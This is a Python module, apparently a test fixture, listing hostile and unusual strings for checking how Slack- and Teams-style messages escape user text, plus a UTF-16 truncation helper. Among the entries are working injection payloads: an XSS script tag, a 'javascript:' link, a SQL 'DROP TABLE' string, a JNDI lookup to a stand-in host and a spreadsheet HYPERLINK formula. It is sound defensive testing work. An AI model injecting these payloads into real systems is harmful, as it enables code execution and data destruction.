"""Words that somebody may type and that some place or other would not take as words: markup, codes, odd letters."""

from __future__ import annotations

import unicodedata

HOSTILE = {
    "special mention": "<!channel>",
    "labelled mention": "<!here|here> <!everyone>",
    "group mention": "<!subteam^S012AB3CD|@lærere>",
    "user mention": "<@U012AB3CD>",
    "labelled user mention": "<@W012AB3CD|ola>",
    "channel link": "<#C012AB3CD|general>",
    "masked link": "<http://x.example|Klikk her>",
    "mail link": "<mailto:a@x.example|skriv>",
    "phone link": "<tel:113|ring>",
    "date": "<!date^1392734382^{date_long}^https://x.example|i går>",
    "bare mentions": "@channel @here @everyone",
    "bare channel": "#general",
    "bold": "*fet*",
    "italic": "_kursiv_",
    "strike": "~strøket~",
    "code": "`kode`",
    "preformatted": "```\nblokk\n```",
    "quote": "> sitat\n&gt; sitat",
    "list": "• en\n- to\n1. tre",
    "escaped mention": "&lt;!channel&gt;",
    "escaped twice": "&amp;lt;!channel&amp;gt; &amp;amp;",
    "bare ampersands": "& && &copy &copy; &#60;",
    "emoji codes": ":smile: :+1::skin-tone-2: :tada:",
    "bare link": "https://x.example/?a=b&c=d#e",
    "bare name of a site": "www.x.example",
    "bare mail address": "ola@x.example",
    "markdown link": "[x](javascript:alert(1))",
    "markdown picture": "![x](https://x.example/x.png)",
    "teams date": "{{DATE(2026-01-01T00:00:00Z, SHORT)}}",
    "teams mention": "<at>Ola</at>",
    "lookup": "${jndi:ldap://x.example/a}",
    "format": "{0} {name} %s %(x)s {{}}",
    "formula": '=HYPERLINK("http://x.example";"x")',
    "html": "<img src=x onerror=alert(1)></script><script>",
    "json": '","type":"mrkdwn","text":"*x*"},{"',
    "block": '{"type":"mrkdwn","text":"<!channel>"}',
    "sql": "'; DROP TABLE cases; --",
    "quotes": "\"'`´«»„“”\\/\\\\n",
    "right to left": "\u202egnirts\u202c \u2066x\u2069 \u200f",
    "hebrew and arabic": "שלום مرحبا 123",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u00ad",
    "joined emoji": "👩‍🏫 👨‍👩‍👧 🏳️‍🌈 👍🏽",
    "norwegian": unicodedata.normalize("NFC", "blåbærsyltetøy ÆØÅ é"),
    "norwegian in parts": unicodedata.normalize("NFD", "blåbærsyltetøy ÆØÅ é"),
    "sámi": "Áá Čč Đđ Ŋŋ Šš Ŧŧ Žž Kárášjohka",
    "piled up": "Z" + "\u0336\u0337\u0334" * 6 + "algo",
    "lines of a log": "én\r\n2026-11-23 ERROR rusplan to\rtre\n\n",
    "colours of a terminal": "\x1b[31mrød\x1b[0m\x07",
    "spaces": "  foran\tmidt\u00a0i\u2028 bak  ",
    "a dash": "-",
    "long": "x" * 3000,
    "long and wide": "ø" * 3000,
    "long and flat": "&<>" * 1000,
}


def cut(words: str, most: int) -> str:
    """Return as much as a place takes, counted in UTF-16 units, as the strictest of Slack's counts."""
    taken = words.encode("utf-16-le")[: 2 * most].decode("utf-16-le", "ignore")
    return taken or "x"
